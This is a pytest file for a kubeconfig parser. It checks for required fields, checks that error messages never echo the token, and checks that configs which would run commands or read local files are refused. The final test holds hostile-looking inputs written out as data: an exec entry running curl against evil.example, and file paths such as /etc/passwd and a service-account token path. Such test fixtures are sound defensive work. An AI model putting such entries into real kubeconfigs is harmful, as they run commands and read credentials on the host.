"""Checking a pasted kubeconfig: what the driver needs is there, nothing runs or reads files, nothing is echoed."""

from __future__ import annotations

import pytest
import yaml

from providers.errors import InvalidRequest
from providers.kubeconfig import parse_kubeconfig
from tests.factories import kubeconfig_for

TOKEN = "k3s-token-never-echoed"


def kubeconfig(**changes: object) -> str:
    document = yaml.safe_load(kubeconfig_for("https://10.0.0.5:6443", token=TOKEN))
    for key, value in changes.items():
        if value is None:
            document.pop(key, None)
        else:
            document[key] = value
    return yaml.safe_dump(document)


def user(**fields: object) -> list[dict[str, object]]:
    return [{"name": "k3s-admin", "user": fields}]


def test_a_k3s_kubeconfig_parses_to_the_dict_the_client_loads() -> None:
    parsed = parse_kubeconfig(kubeconfig())

    assert parsed["current-context"] == "k3s"
    assert parsed["clusters"][0]["cluster"]["server"] == "https://10.0.0.5:6443"


def test_inline_client_certificates_are_accepted() -> None:
    parse_kubeconfig(kubeconfig(users=user(**{"client-certificate-data": "LS0t", "client-key-data": "LS0t"})))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("clusters: [\n  - name: x\n  token: " + TOKEN, r"not valid YAML \(line 2, column 3\)\.$"),
        ("- just\n- a list\n", "must be a YAML mapping"),
        ("", "must be a YAML mapping"),
        (kubeconfig(clusters=[]), "lists no cluster"),
        (kubeconfig(users=None), "lists no user"),
        (kubeconfig(**{"current-context": None}), "has no current-context"),
        (kubeconfig(**{"current-context": "elsewhere"}), "current-context names a context it does not list"),
        (kubeconfig(clusters=[{"name": "other", "cluster": {"server": "https://x"}}]), "names a cluster it does not"),
        (kubeconfig(clusters=[{"name": "k3s", "cluster": {}}]), "cluster has no server URL"),
        (kubeconfig(users=[{"name": "someone", "user": {"token": TOKEN}}]), "names a user it does not list"),
        (kubeconfig(users="k3s-admin"), "users must be a list"),
        (kubeconfig(contexts=[{"context": {}}]), "needs a name and a context mapping"),
    ],
    ids=[
        "not-yaml",
        "a-list",
        "empty",
        "no-cluster",
        "no-user",
        "no-current-context",
        "unknown-context",
        "unknown-cluster",
        "no-server",
        "unknown-user",
        "users-not-a-list",
        "context-without-name",
    ],
)
def test_a_kubeconfig_the_driver_cannot_use_is_refused_saying_why_and_never_what_it_holds(
    text: str, message: str
) -> None:
    with pytest.raises(InvalidRequest, match=message) as error:
        parse_kubeconfig(text)

    assert TOKEN not in str(error.value)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"users": user(exec={"command": "curl", "args": ["evil.example"]})}, r"runs a command \(exec\)"),
        ({"users": user(**{"auth-provider": {"name": "oidc"}})}, r"runs a command \(auth-provider\)"),
        ({"users": user(**{"client-certificate": "/etc/passwd", "client-key": "/k"})}, "reads a file"),
        ({"users": user(tokenFile="/var/run/secrets/token")}, r"reads a file \(tokenFile\)"),
        (
            {"clusters": [{"name": "k3s", "cluster": {"server": "https://x", "certificate-authority": "/ca.crt"}}]},
            r"cluster reads a file \(certificate-authority\)",
        ),
    ],
    ids=["exec", "auth-provider", "client-certificate-file", "token-file", "ca-file"],
)
def test_a_kubeconfig_that_would_run_a_command_or_read_a_file_on_the_worker_is_refused(
    changes: dict[str, object], message: str
) -> None:
    with pytest.raises(InvalidRequest, match=message):
        parse_kubeconfig(kubeconfig(**changes))
